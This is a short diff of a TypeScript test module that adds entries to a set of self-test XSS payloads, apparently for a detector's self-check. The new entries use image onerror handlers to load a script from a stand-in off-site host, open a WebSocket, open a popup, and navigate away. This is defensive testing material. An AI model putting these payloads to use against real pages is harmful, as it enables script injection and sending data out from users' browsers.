@@ -283,5 +283,9 @@ export const SELF_TEST_PAYLOADS = {
   frameDialog: `<iframe srcdoc="<script>alert('self-frame')</script>"></iframe>`,
   pageError: `<img src=x onerror="throw new Error('self-pageerror')">`,
   onMouseover: `<b onmouseover="__canary('self-mouseover')">hover</b>`,
+  offsiteScript: `<img src=x onerror="document.head.append(Object.assign(document.createElement('script'), { src: 'https://offsite.invalid/self-script.js' }))">`,
+  websocket: `<img src=x onerror="new WebSocket('wss://offsite.invalid/self-websocket')">`,
+  /** Needs a real click (the popup blocker wants a user gesture). */
+  popup: `<button id=self-popup onclick="window.open('https://offsite.invalid/self-popup')">popup</button>`,
   navigation: `<img src=x onerror="setTimeout(() => location.assign('https://${CANARY_HOST}/self-navigation'), 30)">`,
 } as const
